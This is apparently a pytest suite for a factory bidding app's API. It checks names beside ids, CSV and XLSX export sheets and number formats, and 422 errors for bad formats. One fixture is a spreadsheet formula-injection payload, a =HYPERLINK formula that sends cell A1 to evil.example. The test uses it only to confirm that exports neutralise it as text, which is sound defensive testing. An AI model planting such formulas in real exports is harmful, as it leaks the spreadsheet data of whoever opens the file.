"""Names beside ids in every output, and exports a finance person opens (API.md).

Every CSV and XLSX export: names beside ids, a sheet per view, money as numbers in a money
format, percentages as numbers; a factory or item named like a formula lands as text.
"""

import io
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update
from sqlmodel import Session, col

from bidding.models import Item
from tests.api.test_allocations_api import (
    closed_round_with_two_bids,
    request_solve,
    wait_until_finished,
)
from tests.conftest import World
from tests.exports import (
    assert_no_formula,
    assert_same_rows,
    csv_cells,
    csv_rows,
    number,
    opened_sheet,
    sheets,
)
from tests.web.helpers import sign_in

EVIL_FACTORY = '=HYPERLINK("http://evil.example/?leak="&A1,"Rival")'
EVIL_ITEM = "@SUM(1+1)"


def _get(world: World, path: str, who: str = "finance") -> Any:
    response = world.client.get(path, headers=world.headers(who))
    assert response.status_code == 200, response.text
    return response


def _name(world: World, rival_name: str, item_name: str) -> None:
    """The rival renamed through the API; the item behind its back (it is in an open round)."""
    renamed = world.client.patch(
        f"/v1/factories/{world.rival_id}", json={"name": rival_name}, headers=world.headers("admin")
    )
    assert renamed.status_code == 200, renamed.text
    assert renamed.json()["name"] == rival_name
    with Session(world.engine) as session:
        session.execute(update(Item).where(col(Item.id) == world.item_id).values(name=item_name))
        session.commit()


def _solved_published_settled(world: World) -> tuple[str, str]:
    """Two allocations (a plain solve and a what-if without the own factory), the first
    published, the round settled: (base, what-if)."""
    closed_round_with_two_bids(world)
    base = request_solve(world)
    assert wait_until_finished(world, base)["status"] == "done"
    other = request_solve(world, {"exclude_factories": [world.factory_id]})
    assert wait_until_finished(world, other)["status"] == "done"
    published = world.client.post(
        f"/v1/allocations/{base}/publish", headers=world.headers("manager")
    )
    assert published.status_code == 200, published.text
    settled = world.client.post(
        f"/v1/rounds/{world.round_id}/settlement",
        json={"sold": {world.item_id: 4000}},
        headers=world.headers("manager"),
    )
    assert settled.status_code == 201, settled.text
    return base, other


def _exports(world: World, base: str, other: str) -> dict[str, str]:
    return {
        "allocation": f"/v1/allocations/{base}",
        "comparison": f"/v1/allocations/{base}/compare/{other}",
        "statements": f"/v1/rounds/{world.round_id}/statements",
        "result": f"/v1/rounds/{world.round_id}/result",
        "takeover": f"/v1/audit/takeover?round={world.round_id}",
        "margins": "/v1/audit/margins",
        "awards": f"/v1/rounds/{world.round_id}/awards",
    }


def _with(path: str, query: str) -> str:
    return f"{path}{'&' if '?' in path else '?'}{query}"


def test_names_stand_beside_ids_in_every_output(world: World) -> None:
    _name(world, "Rival & Co", "Plush bear, large")
    base, other = _solved_published_settled(world)
    names = {world.factory_id: "Own factory", world.rival_id: "Rival & Co"}
    item = "Plush bear, large"

    awards = _get(world, f"/v1/rounds/{world.round_id}/awards").json()["data"]
    assert {(a["factory"], a["factory_name"]) for a in awards} == set(names.items())
    assert {a["item_name"] for a in awards} == {item}
    own = _get(world, f"/v1/rounds/{world.round_id}/awards", "factory").json()["data"]
    assert [a["factory_name"] for a in own] == ["Own factory"]

    allocation = _get(world, f"/v1/allocations/{base}").json()
    assert allocation["factory_names"] == names
    assert allocation["item_names"] == {world.item_id: item}
    assert set(allocation["result"]["allocations"][0]) >= {"bid", "factory", "item"}
    assert "factory_name" not in allocation["result"]["allocations"][0]  # the result format
    what_if = _get(world, f"/v1/allocations/{other}").json()
    assert what_if["factory_names"] == names  # the excluded factory's row is shown too

    compared = _get(world, f"/v1/allocations/{base}/compare/{other}").json()
    assert [(i["item"], i["item_name"]) for i in compared["items"]] == [(world.item_id, item)]
    assert {(f["factory"], f["factory_name"]) for f in compared["factories"]} == set(names.items())

    statements = _get(world, f"/v1/rounds/{world.round_id}/statements").json()
    assert {(s["factory"], s["factory_name"]) for s in statements["data"]} == set(names.items())
    assert statements["total"]["amount"] == str(
        sum(Decimal(s["amount"]) for s in statements["data"])
    )
    result = _get(world, f"/v1/rounds/{world.round_id}/result").json()
    assert [(i["item"], i["item_name"]) for i in result["items"]] == [(world.item_id, item)]
    takeover = _get(world, f"/v1/audit/takeover?round={world.round_id}").json()["data"]
    assert [(t["item"], t["item_name"]) for t in takeover] == [(world.item_id, item)]


def test_names_are_those_published_when_a_factory_is_renamed_after(world: World) -> None:
    _name(world, "Rival & Co", "Plush bear")
    _solved_published_settled(world)
    _name(world, "Rival renamed later", "Plush bear")
    statements = _get(world, f"/v1/rounds/{world.round_id}/statements").json()["data"]
    assert {s["factory_name"] for s in statements} == {"Own factory", "Rival & Co"}
    awards = _get(world, f"/v1/rounds/{world.round_id}/awards").json()["data"]
    assert {a["factory_name"] for a in awards} == {"Own factory", "Rival & Co"}


def test_allocation_rows_and_comparisons_export_as_workbooks_with_the_json_figures(
    world: World,
) -> None:
    _name(world, "Rival & Co", "Plush bear")
    base, other = _solved_published_settled(world)
    views = {
        f"/v1/allocations/{base}": ("bid", "item", "factory", "totals"),
        f"/v1/allocations/{base}/compare/{other}": ("item", "factory", "totals"),
    }
    tables: dict[str, dict[str, list[dict[str, str]]]] = {}
    for path, names in views.items():
        workbook = _get(world, _with(path, "format=xlsx"))
        assert workbook.headers["content-type"].startswith(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        assert workbook.headers["content-disposition"].startswith('attachment; filename="')
        assert len(sheets(workbook.content)) == len(names)
        tables[path] = {}
        for view in names:
            exported = _get(world, _with(path, f"format=csv&view={view}"))
            assert exported.headers["content-type"] == "text/csv; charset=utf-8"
            rows = csv_rows(exported.content)
            opened = opened_sheet(_get(world, _with(path, f"format=xlsx&view={view}")).content)
            assert_same_rows(rows, opened)
            tables[path][view] = rows
        default = csv_rows(_get(world, _with(path, "format=csv")).content)
        assert default == tables[path][names[0]]

    allocation = _get(world, f"/v1/allocations/{base}").json()
    alloc_views = tables[f"/v1/allocations/{base}"]
    by_bid = {r["Bid"]: r for r in alloc_views["bid"]}
    for a in allocation["result"]["allocations"]:
        row = by_bid[a["bid"]]
        assert row["Factory name"] == allocation["factory_names"][a["factory"]]
        assert row["Item name"] == "Plush bear"
        assert int(row["Units"]) == a["units"]
        assert row["Supply price (CNY)"] == a["supply_price"]
        assert number(row["Margin"]) == Decimal(str(a["margin"])).quantize(Decimal("1E-9"))
        assert row["Capacity share used"].endswith("%")
        spend = Decimal(a["supply_price"]) * a["units"] + (
            Decimal(a["setup_fee"]) if a["units"] else 0
        )
        assert Decimal(row["Amount (CNY)"]) == spend
    [per_item] = alloc_views["item"]
    assert int(per_item["Units"]) == sum(a["units"] for a in allocation["result"]["allocations"])
    assert Decimal(per_item["Spend (CNY)"]) == sum(
        Decimal(r["Amount (CNY)"]) for r in alloc_views["bid"]
    )
    assert {r["Factory name"] for r in alloc_views["factory"]} == {"Own factory", "Rival & Co"}
    totals = {r["Figure"]: r["Value"] for r in alloc_views["totals"]}
    assert totals["Spend (CNY)"] == per_item["Spend (CNY)"]
    assert Decimal(totals["Objective (CNY)"]) == Decimal(allocation["result"]["objective"])

    compared = _get(world, f"/v1/allocations/{base}/compare/{other}").json()
    compare_views = tables[f"/v1/allocations/{base}/compare/{other}"]
    [item_row] = compare_views["item"]
    [item] = compared["items"]
    assert item_row["Item name"] == item["item_name"]
    for side in ("base", "other", "change"):
        assert int(item_row[f"Units ({side})"]) == item["units"][side]
        assert Decimal(item_row[f"Spend ({side}, CNY)"]) == Decimal(item["spend"][side])
    by_factory = {r["Factory"]: r for r in compare_views["factory"]}
    for f in compared["factories"]:
        assert by_factory[f["factory"]]["Factory name"] == f["factory_name"]
        assert int(by_factory[f["factory"]]["Units (change)"]) == f["units"]["change"]
    compared_totals = {r["Figure"]: r for r in compare_views["totals"]}
    allocations = compared_totals["Allocation"]
    assert (allocations["Base"], allocations["Other"]) == (base, other)
    assert Decimal(compared_totals["Spend (CNY)"]["Change"]) == Decimal(compared["spend"]["change"])


def test_workbook_cells_are_numbers_in_money_and_percentage_formats(world: World) -> None:
    _name(world, "Rival & Co", "Plush bear")
    base, _ = _solved_published_settled(world)
    content = _get(world, f"/v1/allocations/{base}?format=xlsx").content
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book["Per bid"]
    headers = [c.value for c in sheet[1]]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    row = dict(zip(headers, sheet[2], strict=True))
    assert row["Supply price (CNY)"].data_type == "n"
    assert row["Supply price (CNY)"].number_format == '#,##0.00 "CNY"'
    assert row["Margin"].data_type == "n"
    assert row["Margin"].number_format == "0.00%"
    assert 0 < row["Margin"].value < 1
    assert row["Units"].data_type == "n"
    assert row["Factory name"].data_type == "s"
    statements = openpyxl.load_workbook(
        io.BytesIO(_get(world, f"/v1/rounds/{world.round_id}/statements?format=xlsx").content)
    )
    assert statements.sheetnames == ["Per factory", "Per item", "Totals"]
    total = statements["Totals"]
    assert [c.value for c in total[1]][:4] == ["Round", "Factories", "Units", "Amount (CNY)"]
    assert total["D2"].number_format == '#,##0.00 "CNY"'


EXPORTING = (
    "allocation",
    "comparison",
    "statements",
    "result",
    "takeover",
    "margins",
    "awards",
)


def test_an_unknown_format_or_view_is_a_422_naming_it(world: World) -> None:
    _name(world, "Rival & Co", "Plush bear")
    base, other = _solved_published_settled(world)
    paths = _exports(world, base, other)
    assert set(paths) == set(EXPORTING)
    for name, path in paths.items():
        for query, field in (
            ("format=pdf", "query.format"),
            ("format=CSV", "query.format"),
            ("format=csv&view=nonsense", "query.view"),
            ("view=totals", "query.view"),  # a view picks a sheet of an export, not of JSON
        ):
            response = world.client.get(_with(path, query), headers=world.headers("finance"))
            assert response.status_code == 422, (name, query, response.text)
            assert response.headers["content-type"] == "application/problem+json"
            assert [e["field"] for e in response.json()["errors"]] == [field], (name, query)
    # A view another report has but this one does not: the answer lists this one's views.
    refused = world.client.get(
        _with(paths["result"], "format=csv&view=bid"), headers=world.headers("finance")
    )
    assert refused.status_code == 422
    assert "item, totals" in refused.json()["errors"][0]["message"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_factory_or_item_named_like_a_formula_lands_as_text_in_every_export(
    world: World, fmt: str
) -> None:
    _name(world, EVIL_FACTORY, EVIL_ITEM)
    template = _get(world, f"/v1/rounds/{world.round_id}/bids/template?format={fmt}", "rival")
    base, other = _solved_published_settled(world)
    exported: dict[str, bytes] = {"bid template": template.content}
    for name, path in _exports(world, base, other).items():
        for view in ("bid", "item", "factory", "totals", "findings"):
            response = world.client.get(
                _with(path, f"format={fmt}&view={view}"), headers=world.headers("finance")
            )
            if response.status_code == 200:
                exported[f"{name} {view}"] = response.content
            else:
                assert response.status_code == 422, response.text
    pages = TestClient(world.client.app)
    sign_in(pages, world.keys["finance"])
    for page in (
        f"/finance/rounds/{world.round_id}/statements/download",
        f"/finance/rounds/{world.round_id}/result/download",
        "/finance/takeover/download",
        "/finance/margins/download",
    ):
        response = pages.get(f"{page}?format={fmt}")
        assert response.status_code == 200, (page, response.text)
        exported[page] = response.content

    shown_factory = shown_item = 0
    for name, content in exported.items():
        assert_no_formula(content if fmt == "csv" else None, content if fmt == "xlsx" else None)
        if fmt == "csv":
            texts = [cell for row in csv_cells(content) for cell in row]
        else:
            book = openpyxl.load_workbook(io.BytesIO(content))
            texts = [
                str(cell.value)
                for sheet in book.worksheets
                for row in sheet.iter_rows()
                for cell in row
                if cell.value is not None
            ]
        shown_factory += texts.count("'" + EVIL_FACTORY)
        shown_item += texts.count("'" + EVIL_ITEM)
        assert EVIL_FACTORY not in texts, name
        assert EVIL_ITEM not in texts, name
    # The names are there, as text: in the template (the item), and in the reports.
    assert shown_factory >= 6
    assert shown_item >= 8
